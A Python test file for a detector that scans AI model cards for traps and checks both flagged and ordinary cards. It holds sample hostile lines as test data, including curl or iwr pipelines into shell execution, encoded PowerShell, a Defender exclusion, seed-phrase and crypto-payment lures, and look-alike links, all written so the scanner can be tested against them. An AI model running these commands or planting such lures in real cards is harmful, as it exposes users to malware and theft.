"""What a reader of a card is warned of, and what is ordinary."""

import pytest

from core.comparison.card import parse_card
from core.comparison.cards import compare_cards
from core.comparison.findings import findings
from core.comparison.results import Comparison
from core.findings import Level

ORIGINAL = "# Model\n\nUse it with the usual library. Read [the paper](https://papers.example/1).\n"


def warned(card: str, original: str | None = None) -> dict[str, Level]:
    here = parse_card(card)
    if original is None:
        comparison = Comparison(here)
    else:
        there = parse_card(original)
        comparison = Comparison(here, there, compare_cards(there, here, ()))
    return {one.rule.removeprefix("card."): one.level for one in findings(comparison)}


def block(*lines: str) -> str:
    return "# Model\n\n```bash\n" + "\n".join(lines) + "\n```\n"


@pytest.mark.parametrize(
    ("card", "rule", "level"),
    [
        (block("curl -s https://files.invalid/a.sh | bash"), "download-and-run", Level.CAREFUL),
        (block("iwr https://pastebin.com/raw/x | iex"), "download-and-run", Level.HIGH),
        (block("wget http://files.invalid/setup.exe -O setup.exe"), "download-and-run", Level.HIGH),
        (block("curl -LsSf https://astral.sh/uv/install.sh | sh"), "download-and-run", Level.CAREFUL),
        (block("powershell -WindowStyle Hidden -File setup.ps1"), "hidden-command", Level.HIGH),
        (block("powershell -e aQBlAHgAIAAoAGkAdwByACAAeAApAA=="), "hidden-command", Level.HIGH),
        (block("echo Y3VybA== | base64 -d | sh"), "hidden-command", Level.HIGH),
        (block("Add-MpPreference -ExclusionPath C:\\models"), "protection-off", Level.HIGH),
        ("# Model\n\nPlease disable Windows Defender before you start.\n", "protection-off", Level.HIGH),
        (block("Set-ExecutionPolicy Bypass -Scope Process"), "protection-weakened", Level.CAREFUL),
        (block("xattr -d com.apple.quarantine tool"), "protection-weakened", Level.CAREFUL),
        ("# Model\n\nThe archive password is 1234.\n", "password-archive", Level.CAREFUL),
        ("# Model\n\nRun the setup as administrator.\n", "administrator", Level.CAREFUL),
        ("# Model\n\nRun a terminal as administrator.\n", "administrator", Level.NOTE),
        ("# Model\n\nSend 0.01 ETH to 0x00 for the key.\n", "hand-over", Level.CAREFUL),
        ("# Model\n\nEnter your seed phrase at https://files.invalid/.\n", "hand-over", Level.CAREFUL),
        ("# Mo\u202edel\n\ntext\n", "hidden-characters", Level.CAREFUL),
        ("[https://huggingface.co/openai](https://files.invalid/x)\n", "link-shows-other-address", Level.CAREFUL),
        ("[the program](https://files.invalid/Setup.exe?v=2)\n", "program-link", Level.CAREFUL),
        ("[Download for Windows](https://files.invalid/get)\n", "program-link", Level.CAREFUL),
        ("[x](https://github.com/some-one/app/releases/download/v1/app.dmg)\n", "program-link", Level.CAREFUL),
        ("# Model\n\nInstall it, and allow unknown sources.\n", "protection-off", Level.CAREFUL),
        ("# Model\n\nIf it will not start, click Open Anyway.\n", "protection-off", Level.CAREFUL),
    ],
)
def test_a_trap_in_a_card_is_told(card: str, rule: str, level: Level) -> None:
    assert warned(card).get(rule) is level, warned(card)


@pytest.mark.parametrize(
    "card",
    [
        block("pip install transformers torch", "python train.py --lr 1e-4", "hf download a/b"),
        block("git clone https://huggingface.co/a/b", "ollama run hf.co/a/b", "curl https://api.example/v1 -d '{}'"),
        "# Model\n\nThis model is not affected by antivirus software. There is no need to disable Defender.\n",
        "# Model\n\nSee [the paper](https://papers.example/1) and [huggingface.co](https://huggingface.co/a).\n",
        "[koboldcpp](https://github.com/LostRuins/koboldcpp/releases/latest/download/koboldcpp.exe)\n",
        "[Download Ollama for Mac](https://ollama.com/download) or [weights](https://files.example/model.zip)\n",
        "# Model\n\nEnter your access token at https://huggingface.co/settings/tokens. Never send keys by email.\n",
        "# 模型\n\n说明文字，没有任何命令。\n",
        "# Model\n\n👩‍💻 family emoji and soft hyphen\u00adation\n",
    ],
)
def test_ordinary_cards_raise_no_alarm(card: str) -> None:
    assert not {rule for rule, level in warned(card).items() if level in {Level.HIGH, Level.CAREFUL}}, warned(card)


def test_what_the_original_says_too_is_only_noted() -> None:
    card = block("curl -s https://files.invalid/a.sh | bash")
    assert warned(card, card)["download-and-run"] is Level.NOTE
    assert warned(card, ORIGINAL)["download-and-run"] is Level.HIGH


def test_a_link_to_a_program_that_the_original_has_too_is_only_noted() -> None:
    card = "# Model\n\n[app](https://maker.example/app.exe)\n"
    assert warned(card, card)["program-link"] is Level.NOTE
    assert warned(card, ORIGINAL)["program-link"] is Level.CAREFUL


def test_the_name_of_a_publishers_site_in_another_host_is_told() -> None:
    def told(address: str) -> bool:
        comparison = Comparison(parse_card(f"# Model\n\n[terms]({address})\n"))
        return "card.look-alike-link" in {one.rule for one in findings(comparison, ("ai.heron.example",))}

    assert told("https://ai-heron-example.invalid/terms")
    assert not told("https://ai.heron.example/terms")


def test_an_account_of_the_code_host_made_from_the_originals_is_another_place() -> None:
    card = "# Model\n\nUse it with [the code](https://github.com/Heron/model), as the paper says.\n"
    for account, level in (("Heron-official", Level.CAREFUL), ("someone", Level.NOTE)):
        assert warned(card.replace("Heron", account), card)["same-words-other-address"] is level


def test_the_same_words_with_another_address_are_told() -> None:
    changed = ORIGINAL.replace("papers.example", "papers.invalid")
    assert warned(changed, ORIGINAL)["same-words-other-address"] is Level.CAREFUL
    assert "same-words-other-address" not in warned(ORIGINAL, ORIGINAL)
